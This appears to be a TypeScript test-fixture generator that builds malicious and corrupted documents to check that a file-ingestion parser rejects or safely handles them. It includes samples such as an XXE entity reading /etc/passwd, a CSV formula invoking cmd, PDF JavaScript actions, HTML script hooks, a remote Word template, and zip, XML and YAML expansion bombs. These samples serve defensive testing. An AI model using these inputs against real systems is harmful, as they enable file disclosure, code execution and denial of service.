// Files made to do harm, by a seeded generator: nothing of them is stored anywhere, and each says what is expected of it.

import { strToU8, zipSync } from 'fflate';

export interface HostileFile {
  readonly name: string;
  readonly bytes: Uint8Array;
  /** The one code of its class; null where any reading or any code will do, as long as it ends. */
  readonly code: string | null;
}

/** Mulberry32: 32 bits of state, the same numbers on every machine. */
export function seeded(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const TEXT = 'The boathouse holds eleven rowing boats and two canoes for all of its members.';

/** Sound files of every kind, to be broken. */
export function soundFiles(): Readonly<Record<string, Uint8Array>> {
  return {
    'sound.docx': docx(`<w:p><w:r><w:t>${TEXT}</w:t></w:r></w:p>`),
    'sound.pdf': pdf(`BT /F1 12 Tf 72 700 Td (${TEXT}) Tj ET`),
    'sound.eml': strToU8(
      `From: a@example.org\r\nSubject: Boats\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\n${TEXT}\r\n--x--\r\n`,
    ),
    'sound.html': strToU8(
      `<!doctype html><title>Boats</title><h1>Boats</h1><p>${TEXT}</p><table><tr><td>1</td></tr></table>`,
    ),
    'sound.csv': strToU8(`Item,Note\nBoat,"${TEXT}"\nRope,"It is ""blue"""\n`),
    'sound.md': strToU8(`# Boats\n\n${TEXT}\n\n| a | b |\n|---|---|\n| 1 | 2 |\n`),
    'sound.py': strToU8(`def boats():\n    """${TEXT}"""\n    return 11\n`),
  };
}

/** One of each trick. None may fetch, run, hang, or be read as something that it is not. */
export function tricks(): readonly HostileFile[] {
  const file = (name: string, content: string | Uint8Array, code: string | null): HostileFile => ({
    name,
    bytes: typeof content === 'string' ? strToU8(content) : content,
    code,
  });
  const body = `<w:p><w:r><w:t>${TEXT}</w:t></w:r></w:p>`;
  return [
    file('bomb.docx', docx(' '.repeat(70_000_000)), 'SOURCE_BOMB'),
    file('laughs.docx', docx(`${body}<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>`), 'SOURCE_BOMB'),
    file('deep.docx', docx(`${'<w:p>'.repeat(100_000)}x`), 'SOURCE_BOMB'),
    file('nested.zip', zipSync({ 'a.zip': zipSync({ 'b.zip': zipSync({ c: strToU8('x') }) }) }), 'SOURCE_MEDIA'),
    file('locked.docx', encrypted(docx(body)), 'SOURCE_ENCRYPTED'),
    file('headless.docx', docx(body).slice(0, -40), 'SOURCE_DAMAGED'),
    file('lying.docx', lyingSize(docx(body)), null),
    file('macro.docx', docx(body, { 'word/vbaProject.bin': new Uint8Array(2000) }), null),
    file(
      'remote-template.docx',
      docx(body, {
        'word/_rels/settings.xml.rels': strToU8('<x Target="http://example.org/evil.dotm" TargetMode="External"/>'),
      }),
      null,
    ),
    file(
      'script.pdf',
      pdf('BT /F1 12 Tf 72 700 Td (x) Tj ET', '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
      null,
    ),
    file(
      'remote.pdf',
      pdf(`BT /F1 12 Tf 72 700 Td (${TEXT}) Tj ET`, '/OpenAction << /S /URI /URI (http://example.org/) >>'),
      null,
    ),
    file('loop-kids.pdf', raw('<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>'), null),
    file('loop-ref.pdf', raw('2 0 R', '1 0 R'), null),
    file(
      'a-billion-pages.pdf',
      raw('<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 1000000000 >>'),
      'SOURCE_SCANNED',
    ),
    file(
      'deep.pdf',
      raw(`<< /Type /Catalog /Pages 2 0 R /X ${'['.repeat(50_000)} >>`, '<< /Type /Pages /Kids [] /Count 0 >>'),
      null,
    ),
    file('huge-page.pdf', pdf(`BT /F1 12 Tf 72 700 Td (${TEXT}) Tj ET`, '', '[0 0 1e30 1e30]'), null),
    file('no-end.pdf', '%PDF-1.7\n'.repeat(1000), 'SOURCE_DAMAGED'),
    file('nested.eml', nestedMail(1000), 'SOURCE_BOMB'),
    file('endless-head.eml', `From: a@example.org\r\nSubject: ${'x'.repeat(3_000_000)}\r\n\r\n${TEXT}`, null),
    file(
      'boundary.eml',
      `From: a@example.org\r\nSubject: x\r\nContent-Type: multipart/mixed; boundary="a"\r\n\r\n${'--a\r\n'.repeat(20_000)}`,
      null,
    ),
    file(
      'script.html',
      `<!doctype html><body onload="globalThis.hostileRan=1"><script>globalThis.hostileRan=1</script><img src="http://example.org/x" onerror="globalThis.hostileRan=1"><p>${TEXT}</p>`,
      null,
    ),
    file(
      'refresh.html',
      `<!doctype html><meta http-equiv="refresh" content="0;url=http://example.org/"><base href="http://example.org/"><iframe src="http://example.org/"></iframe><link rel="stylesheet" href="http://example.org/a.css"><p>${TEXT}</p>`,
      null,
    ),
    file('deep.html', `<!doctype html>${'<div>'.repeat(100_000)}${TEXT}`, 'SOURCE_BOMB'),
    file('many.html', `<!doctype html>${'<b>x</b>'.repeat(300_000)}`, 'SOURCE_BOMB'),
    file('unclosed.html', `<!doctype html><p title="${'x'.repeat(2_000_000)}`, null),
    file('formula.csv', "Name,Value\n=cmd|' /C calc'!A0,1\n@SUM(1+1),2\n+1,3\n", null),
    file('unclosed.csv', `a,b\n"${'x,y\n'.repeat(50_000)}`, null),
    file('one-line.csv', `${'x,'.repeat(2_000_000)}\n`, null),
    file('one-line.txt', 'a'.repeat(9_000_000), 'SOURCE_SIZE'),
    file('one-line.md', '#'.repeat(1_000_000), null),
    file('bars.md', '|'.repeat(300_000), null),
    file('brackets.md', `${'['.repeat(50_000)}${TEXT}`, null),
    file('surrogates.txt', new Uint8Array([0xff, 0xfe, 0x00, 0xd8, 0x41, 0x00]), 'TEXT_ENCODING'),
    file('unassigned.txt', `${TEXT} \u0378`, 'TEXT_UNASSIGNED'),
    file('zeros.bin', new Uint8Array(100_000), 'SOURCE_MEDIA'),
    file('program.txt', new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 1, 1, 1]), 'SOURCE_MEDIA'),
    file('empty.pdf', new Uint8Array(0), 'SOURCE_EMPTY'),
    file('braces.json', '{"a":'.repeat(100_000), null),
    file('aliases.yaml', 'a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\n'.repeat(2000), null),
    file('entities.xml', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a; and the boats</x>', null),
  ];
}

/** Sound files cut off at a stride and with bytes changed, `count` of them. */
export function broken(count: number, seed: number): readonly HostileFile[] {
  const random = seeded(seed);
  const sound = Object.entries(soundFiles());
  return Array.from({ length: count }, (_, at): HostileFile => {
    const [name = '', bytes = new Uint8Array()] = sound[at % sound.length] ?? [];
    if (at % 2 === 0)
      return {
        name: `cut-${String(at)}-${name}`,
        bytes: bytes.slice(0, Math.floor(random() * bytes.length)),
        code: null,
      };
    const changed = bytes.slice();
    for (let times = 1 + Math.floor(random() * 40); times > 0; times -= 1)
      changed[Math.floor(random() * changed.length)] = Math.floor(random() * 256);
    return { name: `changed-${String(at)}-${name}`, bytes: changed, code: null };
  });
}

function docx(body: string, more: Readonly<Record<string, Uint8Array>> = {}): Uint8Array {
  const packages = 'http://schemas.openxmlformats.org/package/2006';
  return zipSync({
    '[Content_Types].xml': strToU8(
      `<Types xmlns="${packages}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
    ),
    '_rels/.rels': strToU8(
      `<Relationships xmlns="${packages}/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`,
    ),
    'word/document.xml': strToU8(`<w:document ${W}><w:body>${body}</w:body></w:document>`),
    ...more,
  });
}

/** The bit that says so, in every entry of the directory. */
function encrypted(zip: Uint8Array): Uint8Array {
  return atEntries(zip, (view, at) => {
    view.setUint16(at + 8, 1, true);
  });
}

/** A directory that says everything is four bytes long when unpacked. */
function lyingSize(zip: Uint8Array): Uint8Array {
  return atEntries(zip, (view, at) => {
    view.setUint32(at + 24, 4, true);
  });
}

function atEntries(zip: Uint8Array, change: (view: DataView, at: number) => void): Uint8Array {
  const copy = zip.slice();
  const view = new DataView(copy.buffer);
  for (let at = 0; at + 4 <= copy.length; at += 1) {
    if (view.getUint32(at, true) === 0x02014b50) change(view, at);
  }
  return copy;
}

/** A PDF of these objects, numbered from 1; the first is its catalogue. */
function raw(...objects: readonly string[]): string {
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, at) => {
    const offset = text.length;
    text += `${String(at + 1)} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = String(objects.length + 1);
  return `${text}xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${String(text.length)}\n%%EOF\n`;
}

function pdf(content: string, catalog = '', box = '[0 0 612 792]'): Uint8Array {
  return strToU8(
    raw(
      `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox ${box} /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>`,
      `<< /Length ${String(content.length)} >>\nstream\n${content}\nendstream`,
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ),
  );
}

function nestedMail(depth: number): string {
  const opened = Array.from(
    { length: depth },
    (_, at) => `Content-Type: multipart/mixed; boundary="b${String(at)}"\r\n\r\n--b${String(at)}\r\n`,
  );
  return `From: a@example.org\r\nSubject: x\r\n${opened.join('')}\r\n${TEXT}`;
}
